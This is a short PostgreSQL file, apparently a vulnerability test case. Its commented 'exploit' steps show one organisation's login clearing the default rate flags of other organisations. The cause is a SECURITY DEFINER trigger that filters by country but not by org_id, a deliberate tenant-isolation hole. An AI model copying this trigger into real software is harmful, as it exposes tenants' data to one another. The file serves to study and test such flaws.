-- A login takes the default mark from the rates of all organisations by setting its own, as the trigger
-- does not ask.
-- about: one_default, rates_one_default, rates
-- as: hf_perdiem_app
-- exploit: SET app.current_org = '1';
-- exploit: UPDATE expense.rates SET is_default = true WHERE rate_no = 1;
-- exploit: SET app.current_org = '12';
-- exploit: SELECT 'default is now ' || is_default FROM expense.rates;
-- shows: default is now false
CREATE FUNCTION expense.one_default() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER
SET search_path = expense, pg_temp AS $$
BEGIN
  UPDATE expense.rates SET is_default = false
  WHERE country = NEW.country AND is_default AND (org_id, rate_no) <> (NEW.org_id, NEW.rate_no);
  RETURN NULL;
END $$;
REVOKE EXECUTE ON FUNCTION expense.one_default() FROM PUBLIC;
CREATE TRIGGER rates_one_default AFTER UPDATE ON expense.rates
  FOR EACH ROW WHEN (NEW.is_default AND pg_trigger_depth() = 0) EXECUTE FUNCTION expense.one_default();
